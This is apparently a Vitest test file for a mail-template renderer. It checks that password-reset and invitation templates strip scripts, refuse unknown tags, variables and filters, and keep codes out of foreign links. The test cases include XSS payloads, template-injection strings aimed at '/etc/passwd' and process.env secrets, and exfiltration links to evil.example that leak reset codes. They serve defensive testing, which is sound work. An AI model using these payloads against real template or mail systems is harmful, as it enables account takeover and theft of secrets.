import { describe, expect, test } from "vitest";
import { foreignOrigins } from "@/core/mail-templates/clean";
import { renderTemplate, type TemplateSource } from "@/core/mail-templates/render-template";
import type { VariableName } from "@/emails/_variables";
import { effortOf } from "@/tests/support/effort";
import { ORIGIN } from "@/tests/support/rendered-mail";
import { exampleIn, sourceOf } from "@/tests/support/templates";

const LINK = `${ORIGIN}/an-example-that-leads-nowhere`;
/** The least a reset mail must have. */
const GOOD = '<p><a href="{{ link }}">{{ link }}</a> {{ code }} {{ names }} {{ others }}</p>';

async function draw(changed: Partial<TemplateSource>, others: readonly VariableName[] = []) {
  return renderTemplate("reset-password", await sourceOf("reset-password", changed), exampleIn("reset-password", others));
}

async function bodyOf(body: string): Promise<string> {
  const drawn = await draw({ body: `${body}\n${GOOD}` });
  if (!drawn.ok) throw new Error(JSON.stringify(drawn.problems));
  return drawn.value.html.slice(drawn.value.html.lastIndexOf('class="card"'));
}

async function refusalOf(body: string) {
  const drawn = await draw({ body });
  return drawn.ok ? null : drawn.problems[0];
}

describe("a template of bad faith", () => {
  test.each([
    "<script>alert(1)</script>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=x onerror=alert(1)>",
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<iframe src="https://evil.example"></iframe>',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    "<style>@import url(https://evil.example/a.css)</style>",
    '<p style="background-image:url(https://evil.example/a.png)">x</p>',
    '<p style="background:url(//evil.example/a.png)">x</p>',
    '<p onclick="alert(1)" id="a">x</p>',
    '<svg><script>alert(1)</script><image href="https://evil.example/a"/></svg>',
    '<math><mtext><img src=x onerror="alert(1)"></mtext></math>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<object data="https://evil.example"></object><embed src="https://evil.example"><video src="https://evil.example"></video>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<td background="https://evil.example/a.png">x</td>',
    "<!--[if mso]><v:rect src='https://evil.example'><![endif]-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  ])("T-M3: %s leaves nothing that runs or is loaded", async (body) => {
    const html = await bodyOf(body);
    expect(html).not.toMatch(/<(script|img|base|form|input|button|iframe|link|style|svg|math|image|meta|object|embed|video)\b/i);
    expect(html).not.toMatch(/\b(on\w+|src|background|srcset|action|data)=|url\(|@import|javascript:|href="(data|\/\/)/i);
  });

  test("T-M3: markup within markup without end is cut", async () => {
    const html = await bodyOf(`${"<blockquote>".repeat(1500)}x${"</blockquote>".repeat(1500)}`);
    expect(html.split("<blockquote").length - 1).toBeLessThanOrEqual(30);
  });

  test.each([
    "{% include '/etc/passwd' %}",
    "{% render '/etc/passwd' %}",
    "{% layout '/etc/passwd' %}",
    "{% liquid include '/etc/passwd' %}",
    "{% assign a = 1 %}",
    "{% capture a %}{% endcapture %}",
    "{% tablerow a in b %}{% endtablerow %}",
    "{% raw %}{% endraw %}",
    "{% echo link %}",
  ])("T-M3: %s is no tag of ours, and the answer says where it stands", async (tag) => {
    const name = /\w+/.exec(tag)?.[0];
    expect(await refusalOf(`<p>\n  ${tag}</p>`)).toEqual({
      code: "mail-template.unknown-tag",
      field: "body",
      vars: { name, line: 2, column: 3 },
    });
  });

  test.each([
    ["{{ constructor }}", "constructor"],
    ["{{ __proto__ }}", "__proto__"],
    ["{{ process.env.AUTH_SECRET }}", "process"],
    ["{{ this }}", "this"],
    ["{% if false %}{{ settings }}{% endif %}", "settings"],
    ["{% for one in accounts %}{{ one }}{% endfor %}", "accounts"],
    ["{{ shop.constructor }}", "shop.constructor"],
    ["{{ link.__proto__ }}", "link.__proto__"],
  ])("T-M3: %s prints nothing: the list of variables is all there is, also where it would not be reached", async (body, name) => {
    expect(await refusalOf(`<p>${body}</p>`)).toMatchObject({ code: "mail-template.unknown-variable", vars: { name, line: 1 } });
  });

  test.each(["raw", "map", "sha256", "date", "inspect", "json", "where", "split", "append"])(
    "T-M3: there is no filter %s",
    async (filter) => {
      expect(await refusalOf(`{{ shop | ${filter} }}`)).toMatchObject({
        code: "mail-template.unknown-filter",
        vars: { name: filter },
      });
    },
  );

  test.each([
    "{% for a in (1..99999999) %}x{% endfor %}",
    "{% for a in (1..4000) %}{% for b in (1..4000) %}{{ shop }}{% endfor %}{% endfor %}",
    "{% for a in (1..9999) %}xxxxxxxxxxxxxxxxxxxxxxxxxxxxxx{% endfor %}",
    // Little memory, and nothing printed: only the time tells.
    `{% for a in (1..190000) %}${"{% if shop == code %}{% endif %}".repeat(1200)}{% endfor %}`,
    "x".repeat(40_001),
  ])(
    "T-M3: %# takes neither time nor memory",
    async (body) => {
      const effort = await effortOf(async () => {
        expect(await refusalOf(body)).toMatchObject({ code: "mail-template.too-much", field: "body" });
      });
      expect(effort).toBeLessThan(10_000);
    },
    120_000,
  );

  test.each([
    ["{% if code %}\n<p>x</p>", "mail-template.not-closed", 1],
    ["<p>\n{{ code </p>", "mail-template.not-closed", 2],
    ["<p>\n\n{{ 7*7 }}</p>", "mail-template.unreadable", 3],
  ])("UX-B10: a slip is named with its line: %#", async (body, code, line) => {
    expect(await refusalOf(body)).toMatchObject({ code, field: "body", vars: { line } });
  });

  test("T-M8: neither subject nor preview can hold what opens an account", async () => {
    for (const part of ["subject", "preview"] as const) {
      const drawn = await draw({ [part]: "Your code: {{ code }}" });
      expect(drawn).toMatchObject({
        ok: false,
        problems: [{ code: "mail-template.secret-in-subject", field: part, vars: { name: "code" } }],
      });
    }
  });
});

describe("links of a template", () => {
  const hrefsOf = async (body: string) => [...(await bodyOf(body)).matchAll(/ href="([^"]*)"/g)].map(([, href]) => href);

  test("T-U3: lead to the shop, to a mailbox, or to a place that was typed as it is", async () => {
    const body =
      '<a href="{{ home }}/terms">a</a><a href="mailto:help@example.com">b</a><a href="https://social.example/us">c</a>';
    expect(await hrefsOf(body)).toEqual([`${ORIGIN}/terms`, "mailto:help@example.com", "https://social.example/us", LINK]);
  });

  test.each([
    '<a href="https://evil.example/?to={{ link }}">x</a>',
    '<a href="https://evil.example/{{ code }}">x</a>',
    '<a href="mailto:evil@example.com?body={{ code }}">x</a>',
    '<a href="https://{{ names }}">x</a>',
    '<a href="https://evil.example{{ home }}">x</a>',
    '<a href="https://shop.example@evil.example/{{ code }}">x</a>',
    '<a href="https://shop.example@evil.example/">x</a>',
    `<a href="https://evil.example/?{{ code | truncate: 5, '' }}">x</a>`,
    '<a href="https://evil.example/?{{ code[0] }}-{{ code[1] }}-{{ code[2] }}">x</a>',
    '<a href="https://evil.example/?{{ link[20] }}.{{ link[21] }}.{{ link[22] }}">x</a>',
    '<a href="https://evil.example/?{{ link | upcase }}">x</a>',
    '<a href="https://evil.example/?{% for at in (0..5) %}{{ code[at] }}_{% endfor %}">x</a>',
    '<a href="mailto:{{ code[0] }}-{{ code[1] }}-{{ code[2] }}@evil.example">x</a>',
    '<a href="https://evil.example/{{ shop }}">x</a>',
    '{% if code != "" and link contains "lead" %}<a href="https://evil.example/lead">x</a>{% endif %}',
    '{% unless code contains "x" %}<a href="https://evil.example/no-x">x</a>{% endunless %}',
  ])("T-U3: %s is no link: what opens an account goes nowhere else, and no variable chooses the host", async (body) => {
    expect(await hrefsOf(body)).toEqual([LINK]);
  });
});

describe("addresses that are read in two ways", () => {
  test("T-U3: a link of the shop stands as every reader understands it", async () => {
    const body = await bodyOf(`<a href="${ORIGIN}\\@evil.example/">x</a>`);
    expect(body).toContain(`href="${ORIGIN}/@evil.example/"`);
  });

  test("T-U3: entities hide no other place from the audit log", () => {
    const source = '<a href="https&#58;//social&#46;example/us">x</a> https://typed.example/a';
    expect(foreignOrigins(source, ORIGIN)).toEqual(["https://social.example", "https://typed.example"]);
    expect(foreignOrigins(`<a href="${ORIGIN}/terms">x</a>`, ORIGIN)).toEqual([]);
  });
});

describe("what strangers typed", () => {
  test.each(["<img src=x onerror=alert(1)>", "{{ 7 | times: 7 }} {% include 'a' %}", "http://evil.example now", "a\u202E\r\nb"])(
    "T-M2: %# stays text in a template, too",
    async (name) => {
      const example = exampleIn("company-invitation");
      const source = await sourceOf("company-invitation", { textBody: "{{ company }} {{ link }}" });
      const drawn = await renderTemplate("company-invitation", source, { ...example, facts: { company: name, by: name } });
      if (!drawn.ok) throw new Error(drawn.code);
      const { subject, html, text } = drawn.value;
      expect(html).not.toMatch(/<img|\b49\b|https?:\/\/evil/);
      expect(`${subject}${text}`).not.toMatch(/https?:\/\/evil|\u202E|\r/);
      expect(subject).not.toContain("\n");
    },
  );
});

test("T-M2: signs of markup in a value are printed as they are, in both parts", async () => {
  const example = { ...exampleIn("reset-password"), shop: { name: "Tea & <b>Toys</b>", color: "#1f5c4d" } };
  const source = await sourceOf("reset-password", { body: `<p>At {{ shop }}</p>${GOOD}`, subject: "At {{ shop }}" });
  const drawn = await renderTemplate("reset-password", source, example);
  if (!drawn.ok) throw new Error(drawn.code);
  expect(drawn.value.html).toContain("At Tea &amp; &lt;b&gt;Toys&lt;/b&gt;");
  expect([drawn.value.subject, drawn.value.text]).toEqual(Array(2).fill(expect.stringContaining("At Tea & <b>Toys</b>")));
});

test("T-M2: signs that turn a text around are left out of a text part, whoever typed them", async () => {
  const drawn = await draw({ textBody: "Pay\u202E now\u0007.\n{{ link }} {{ code }} {{ names }} {{ others }}" });
  expect(drawn.ok && drawn.value.text).toMatch(/^Pay now\.\n/);
});

describe("what must be there", () => {
  test.each([
    ["left out", GOOD.replace(/<a.*<\/a>/, ""), "link", "body"],
    ["only printed, not linked", GOOD.replace(/<a.*<\/a>/, "{{ link }}"), "link", "body"],
    ["in a comment of the markup", `${GOOD.replace("{{ code }}", "<!-- {{ code }} -->")}`, "code", "body"],
    ["in a comment of the template", `${GOOD.replace("{{ code }}", "{% comment %}{{ code }}{% endcomment %}")}`, "code", "body"],
    ["in a condition that never holds", GOOD.replace("{{ code }}", "{% if shop == '' %}{{ code }}{% endif %}"), "code", "body"],
    ["only in an attribute", GOOD.replace("{{ code }}", '<span class="{{ code }}" title="{{ code }}">x</span>'), "code", "body"],
    ["cut short", GOOD.replace("{{ code }}", "{{ code | truncate: 4 }}"), "code", "body"],
    ["without the sign-in names", GOOD.replace("{{ names }}", ""), "names", "body"],
  ])("T-M4: a mail whose variable is %s is not good", async (_how, body, name, part) => {
    const drawn = await draw({ body });
    expect(drawn).toMatchObject({ ok: true, value: { missing: { name, part } } });
  });

  test("T-M4: nor one whose edited text part lacks it", async () => {
    expect(await draw({ textBody: "Your code is {{ code }}." })).toMatchObject({
      ok: true,
      value: { missing: { name: "link", part: "textBody" } },
    });
    expect(await draw({ textBody: "{{ link }} {{ code }} {{ names }} {{ others }}" })).toMatchObject({
      ok: true,
      value: { missing: null },
    });
  });

  test("T-M4: what this mail has none of need not be printed", async () => {
    expect(await draw({ body: GOOD }, ["code"])).toMatchObject({ ok: true, value: { missing: null } });
  });
});
